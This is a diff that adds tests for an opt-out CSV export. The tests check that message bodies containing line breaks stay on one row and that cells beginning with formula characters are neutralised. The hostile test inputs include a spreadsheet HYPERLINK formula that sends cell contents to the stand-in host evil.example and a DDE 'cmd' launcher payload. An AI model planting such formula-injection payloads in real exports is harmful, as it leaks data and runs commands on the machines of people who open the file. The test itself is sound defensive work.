@@ -68,3 +68,54 @@ describe('exportOptOuts', () => {
     );
   });
 });
+
+describe('exportOptOuts CSV against hostile bodies', () => {
+  const hostile = [
+    'Stop texting me\nThis is John',
+    'stop\rnow',
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1+1)',
+    '\tSTOP',
+    '\rSTOP',
+    '＝1+1',
+  ];
+
+  async function exported(options: { raw?: boolean } = {}) {
+    const clock = createFixedClock('2026-03-02T14:03:22Z');
+    const consent = createConsentManager({ store: createMemoryStore(), clock, defaultCountry: 'US' });
+    for (const [index, body] of hostile.entries()) {
+      await consent.record({
+        phone: `+1415555${String(1000 + index)}`,
+        action: 'opt_out',
+        source: 'import',
+        evidence: { messageId: `SM${index}`, body },
+      });
+    }
+    const text = await collect(
+      consent.exportOptOuts({ format: 'csv', ...(options.raw ? { formulas: 'raw' as const } : {}) }),
+    );
+    // Read back the way spreadsheets and Python's csv module do: CR, LF and CRLF all end a record.
+    return parse(text, { columns: true, record_delimiter: ['\r\n', '\n', '\r'] }) as Record<string, string>[];
+  }
+
+  test('a body with a bare line feed or carriage return stays one row when read back by a CSV parser', async () => {
+    const rows = await exported({ raw: true });
+    expect(rows).toHaveLength(hostile.length);
+    expect(rows.map((row) => row.body)).toEqual(hostile);
+    expect(rows.map((row) => row.phone)).toEqual(hostile.map((_, index) => `+1415555${1000 + index}`));
+  });
+
+  test('formula prefixes are neutralised with a leading quote by default, the phone kept as is', async () => {
+    const rows = await exported();
+    expect(rows).toHaveLength(hostile.length);
+    expect(rows[0]?.body).toBe('Stop texting me\nThis is John');
+    expect(rows[1]?.body).toBe('stop\rnow');
+    for (const row of rows.slice(2)) {
+      expect(row.body?.startsWith("'")).toBe(true);
+      expect(row.phone).toMatch(/^\+1415555\d{4}$/);
+    }
+    expect(rows.slice(2).map((row) => row.body?.slice(1))).toEqual(hostile.slice(2));
+  });
+});
